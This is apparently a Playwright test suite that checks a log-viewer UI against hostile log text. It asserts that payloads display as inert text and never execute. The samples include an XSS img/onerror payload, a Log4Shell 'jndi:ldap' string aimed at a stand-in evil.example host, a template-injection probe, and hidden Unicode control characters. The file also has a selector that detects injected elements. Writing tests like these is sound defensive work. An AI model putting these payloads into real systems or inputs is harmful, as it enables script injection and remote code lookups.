import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { launch, noBrowser, type OpenPage, openPage } from './browser.ts'
import { HOSTILE, hostileEvents } from './hostile-corpus.ts'

describe.skipIf(noBrowser !== undefined)('hostile log text', () => {
  let browser: Browser
  beforeAll(async () => {
    browser = await launch()
  })
  afterAll(() => browser.close())

  const open = (): Promise<OpenPage> =>
    openPage(browser, {
      batches: [hostileEvents()],
      serve: { status: () => ({ demo: true, cluster: HOSTILE[0] }) },
    })

  test('the watch of these tests sees a script, a foreign request and an element, when there are some', async () => {
    await using opened = await open()
    await opened.goto()
    await opened.page.evaluate(() => {
      const image = document.createElement('img')
      image.src = 'http://evil.example/x.png'
      const script = document.createElement('script')
      script.textContent = 'window.pwned = 1'
      document.querySelector('#results')!.append(image, script)
    })
    await expect.poll(() => opened.trouble.join('\n')).toMatch(/evil\.example/)
    expect(opened.trouble.join('\n')).toMatch(/script/i)
    expect(await foreignElements(opened.page)).toBeGreaterThan(0)
  })

  test('is text in the table, also in the words that the query marks', async () => {
    await using opened = await open()
    const { page } = opened
    await opened.goto({
      query: 'match or img or script or svg or javascript or jndi',
      columns: 'origin,user.name,rule.name,labels,tags,event.action',
    })
    await page.locator('.rail mark').first().waitFor()
    expect(await page.locator('.rail > .row').count()).toBe(HOSTILE.length)
    const shown = (await page.locator('.rail .message').allTextContents()).join('\n')
    expect(shown).toContain('<img src=x onerror="window.pwned=1">')
    expect(shown).toContain('${jndi:ldap://evil.example/a}')
    expect(shown).toContain('{{7*7}}')
    await quiet(opened)
  })

  test('is text in every view of an event, and its names of fields are too', async () => {
    await using opened = await open()
    const { page } = opened
    await opened.goto({ query: 'match' })
    for (let index = 0; index < HOSTILE.length; index++) {
      await page.keyboard.press('j')
      if (index === 0) await page.keyboard.press('Enter')
      for (const tab of ['Fields', 'JSON', 'Raw', 'Context']) {
        await page.getByRole('tab', { name: tab }).click()
        await page.locator('.detail-body > *').first().waitFor()
      }
    }
    await quiet(opened)
  })

  test('is text in top values, in suggestions, in the query it is filtered by, and in what is wrong with it', async () => {
    await using opened = await open()
    const { page } = opened
    await opened.goto()
    for (const field of ['user.name', 'rule.name', 'process.name']) {
      await page.locator('.field-list .name', { hasText: new RegExp(`^${field}$`) }).click()
      await page.locator('.top-values li').first().waitFor()
    }
    await page.getByRole('combobox', { name: 'Query' }).fill('user.name: <')
    await page.getByRole('combobox', { name: 'Query' }).fill('user.name: ')
    await page.locator('#suggestions [role=option]').first().waitFor()
    await page.keyboard.press('ArrowDown')
    await page.keyboard.press('Enter')
    await page.keyboard.press('Enter')
    await page.locator('.rail > .row').first().waitFor()
    await page.getByRole('combobox', { name: 'Query' }).fill('user.name: (<img src=x onerror=window.pwned=1>')
    await page.keyboard.press('Enter')
    await page.locator('.query-message.error p').waitFor()
    await quiet(opened)
  })

  test('characters that would hide, reverse or steer are seen as marks', async () => {
    await using opened = await open()
    const { page } = opened
    await opened.goto({ query: 'match' })
    const all = (await page.locator('.rail .message .text').allTextContents()).join('\n')
    for (const mark of [
      'U+202E',
      'U+200B',
      'U+2066',
      'U+FEFF',
      '\\x1b',
      '\\x9b',
      '\\x00',
      '\\r\\n',
      'U+2028',
      'U+D800',
    ]) {
      expect(all).toContain(mark)
    }
    expect(all).not.toMatch(
      // oxlint-disable-next-line no-control-regex
      /[\u0000-\u0008\u000b-\u001f\u0080-\u009f\u202a-\u202e\u2066-\u2069\u200b\ufeff]/u,
    )
    expect(await page.locator('.marker[title*="RIGHT-TO-LEFT OVERRIDE"]').count()).toBeGreaterThan(0)
  })

  test('only and not work for every hostile value: it is found again by its own filter', async () => {
    await using opened = await open()
    const { page } = opened
    for (let index = 0; index < HOSTILE.length; index++) {
      await opened.goto({ query: 'match' })
      await page.locator('.rail > .row').nth(index).click()
      const field = page.locator('.event-field', { has: page.locator('dt', { hasText: /^user\.name$/ }) })
      await field.hover()
      await field.getByRole('button', { name: /^Only this/ }).click()
      await expect.poll(() => page.locator('.counts strong').textContent()).toBe('1')
    }
    await quiet(opened)
  })
})

/** Nothing ran, nothing was made, nothing was blocked, nothing was asked elsewhere. */
async function quiet(opened: OpenPage): Promise<void> {
  expect(await foreignElements(opened.page)).toBe(0)
  expect(await opened.page.evaluate(() => (window as unknown as { pwned?: unknown }).pwned)).toBeUndefined()
  expect(opened.trouble).toEqual([])
}

/** Elements that only a log line could have made: the page has none of them in its panes, and one drawing in the histogram. */
function foreignElements(page: Page): Promise<number> {
  return page.evaluate(
    () =>
      document.querySelectorAll(
        'img, iframe, object, embed, style, math, form form, body script, base, #panes svg, #panes a, #panes link, [onerror], [onload], [onmouseover], [onfocus], [srcdoc], a[href^="javascript:"]',
      ).length,
  )
}
